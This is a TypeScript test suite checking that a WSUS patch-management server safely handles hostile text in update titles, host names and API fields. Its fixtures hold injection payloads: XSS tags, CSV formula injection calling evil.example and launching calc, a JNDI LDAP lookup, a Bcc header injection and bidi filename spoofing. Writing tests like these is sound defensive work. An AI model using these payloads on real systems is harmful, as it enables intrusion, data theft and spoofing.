import { expect } from 'chai'
import type { Mailbox } from '../../demo/mailbox/index.ts'
import { COMMAND, withInfra } from '../../server/context.ts'
import { executeRun } from '../../server/discovery/run.ts'
import { requestRun } from '../../server/discovery/service.ts'
import { getRun } from '../../server/discovery/store.ts'
import { deliver } from '../../server/notices/delivery.ts'
import { openWsus } from '../../wsus-adapter/index.ts'
import { shell } from '../cli/run.ts'
import { openTestApi, type TestApi } from '../support/api.ts'
import { PASSWORD } from '../support/people.ts'
import { aComputer, aMailbox, anUpdate, assign, mailOf, settle, SOURCE, TENANTS, WsusEstate } from './estate.ts'

const MEBIBYTE = 1024 * 1024
const TAG = '<script>alert("title")</script>'
/** What WSUS says, as somebody who may name updates and computers there could write it. */
const TITLES = [
  `=HYPERLINK("http://evil.example","${TAG}")`,
  `+1 & 'quoted' \u202Egnp.exe\u202C {{constructor.name}} \${jndi:ldap://evil.example} $userid`,
  `first line\r\nBcc: victim@evil.example\r\n\r\nsecond`,
  'x'.repeat(MEBIBYTE),
]
const FQDN = '<img src=x onerror=alert(1)>.evil.example'

describe('text from outside', function () {
  this.timeout(60_000)
  let test: TestApi
  let estate: WsusEstate
  let mailbox: Mailbox

  before(async () => {
    test = await openTestApi()
    mailbox = await aMailbox()
    estate = await WsusEstate.start({ computers: 6, updates: TITLES.length })
    for (const [i, titleEn] of TITLES.entries()) estate.wsus.addUpdate(anUpdate(i, { titleEn, titleJa: titleEn }))
    const places = await settle(test.app, estate.wsus.url, mailbox)
    estate.report([4])
    await discover()
    await assign(test.app, estate, places)
    estate.wsus.estate.register(aComputer(90, new Date(), FQDN))
    estate.wsus.estate.register(aComputer(91, new Date(), `${'y'.repeat(MEBIBYTE)}.evil.example`))
    estate.wsus.addGroup(`=cmd|'/C calc'!A0 ${TAG}`)
    estate.report([2])
    estate.approveFrom(0, TITLES.length)
    await discover()
    const tenants = (await test.app.pools
      .infra('tenant')
      .whereIn('public_id', [...TENANTS])
      .select('id')) as { id: number }[]
    for (const { id } of tenants) await deliver(test.app, id, new AbortController().signal)
  })
  after(async () => {
    await mailbox.stop()
    await estate.wsus.stop()
    await test.close()
  })

  async function discover(): Promise<void> {
    const { app } = test
    const [asked] = await withInfra(app, COMMAND, (ctx) => requestRun(ctx, { sourceIds: [SOURCE] }, '#COMMAND'))
    await executeRun(app, asked?.runId ?? 0, { signal: new AbortController().signal, open: openWsus })
    const run = await withInfra(app, COMMAND, (ctx) => getRun(ctx, asked?.runId ?? 0))
    expect([run?.state, run?.errorCode]).to.deep.equal(['succeeded', null])
  }

  it('is taken in by a discovery, within bounds', async () => {
    const { rows } = await test.app.pools.infra.raw<{ rows: { longest: number; patches: number }[] }>(
      'select max(length(title)) as longest, count(*)::int as patches from patch',
    )

    expect(rows[0]?.patches).to.equal(TITLES.length)
    expect(rows[0]?.longest).to.be.at.most(2_000)
    const computers = await test.app.pools.infra('source_computer').where('fqdn', 'like', '%evil.example').orWhere('fqdn', 'like', 'yyyy%')
    expect(computers).to.have.length(2)
  })

  it('stays text in mails, and adds no header', () => {
    for (const tenant of TENANTS) {
      const [mail] = mailbox.mailsTo(mailOf(`${tenant}-user`))
      if (mail === undefined) throw new Error(`no mail to ${tenant}`)
      const [head = ''] = mail.raw.toString('latin1').split('\r\n\r\n')

      expect(mail.html).to.contain('&lt;script&gt;').and.to.not.contain('<script')
      expect(mail.text).to.contain(TAG).and.to.contain('{{constructor.name}}').and.to.contain('$userid')
      expect(head).to.not.match(/^Bcc:/im)
      expect(mail.raw.length, 'bytes of the mail').to.be.lessThan(200_000)
    }
    expect(mailbox.mailsTo('victim@evil.example')).to.deep.equal([])
  })

  it('stays text in the cells of CSV', async () => {
    const { code, out } = await shell(test.app.config.stateDir)('swcfmg_patch_info -patch -format csv')

    expect(code).to.equal(0)
    expect(out).to.contain('HYPERLINK')
    for (const cell of out.split(/,|\r\n/)) expect(cell, cell.slice(0, 80)).to.not.match(/^"?[=+@]/)
  })

  it('does not steer or mislead a terminal', async () => {
    const { code, out } = await shell(test.app.config.stateDir, { tty: true, columns: 120 })('swcfmg_patch_info -patch -format table')

    expect(code).to.equal(0)
    expect(out).to.contain('gnp.exe')
    expect(out).to.not.match(/[\u202A-\u202E\u2066-\u2069]|[^\P{Cc}\n]/u)
  })
})

describe('text that nothing can hold', () => {
  let test: TestApi
  before(async () => {
    test = await openTestApi()
  })
  after(() => test.close())

  const BAD = {
    'a zero byte': 'a\0b',
    'half a surrogate pair': 'a\uD800b',
    'a mebibyte': 'x'.repeat(MEBIBYTE),
    'a line separator': 'a\u2028b',
  }
  const row = (text: string): Record<string, [string, unknown]> => ({
    'a tenant’s name': ['/tenants/add', { tenants: [{ tenantId: 't1', name: text }] }],
    'a tenant’s id': ['/tenants/add', { tenants: [{ tenantId: text, name: 'n' }] }],
    'a user’s name': [
      '/users/add',
      { users: [{ userId: 'u1', password: PASSWORD, role: 'infra_admin', email: 'a@example.jp', lastName: text }] },
    ],
    'a mail address': ['/users/add', { users: [{ userId: 'u1', password: PASSWORD, role: 'infra_admin', email: `${text}@example.jp` }] }],
    'a server group’s name': [
      '/server-groups/add',
      { serverGroups: [{ serverGroupId: null, name: text, tenantId: '__DEFAULT__', owner: null }] },
    ],
    'a source’s name': ['/sources', { sourceId: 'w1', url: 'http://wsus.example', name: text }],
    'a host name': [
      '/servers/add',
      {
        servers: [
          { address: '192.0.2.1', name: 'n', serverGroupId: 'x', hostName: text, osType: 'windows', osArchitecture: '', osName: '' },
        ],
      },
    ],
    'a source’s id': ['/discovery/runs', { sourceIds: [text] }],
  })
  for (const [what, text] of Object.entries(BAD)) {
    it(`is refused wherever it is written: ${what}`, async () => {
      for (const [where, [path, body]] of Object.entries(row(text))) {
        const answer = await test.operator('POST', `/api/v1${path}`, body)

        expect(answer.status, `${where}: ${answer.text.slice(0, 300)}`).to.be.oneOf([400, 404, 413])
        expect(answer.json.code, where).to.match(/^[a-z_]+$/)
        expect(answer.text.length, where).to.be.lessThan(10_000)
      }
    })
  }

  it('is refused in queries and paths, too', async () => {
    for (const text of ['a%00b', '%ED%A0%80', '%FF', encodeURIComponent('x'.repeat(12_000))]) {
      for (const path of [
        `/tenants?after=${text}`,
        `/computers?tenantId=${text}`,
        `/patches/${text}`,
        `/jobs/${text}`,
        `/users?tenantId=${text}`,
      ]) {
        const answer = await test.operator('GET', `/api/v1${path}`)

        expect(answer.status, `${path.slice(0, 60)}: ${answer.text.slice(0, 300)}`).to.be.oneOf([200, 400, 404])
        if (answer.status === 200) expect(answer.json.items, path.slice(0, 60)).to.deep.equal([])
      }
    }
  })
})
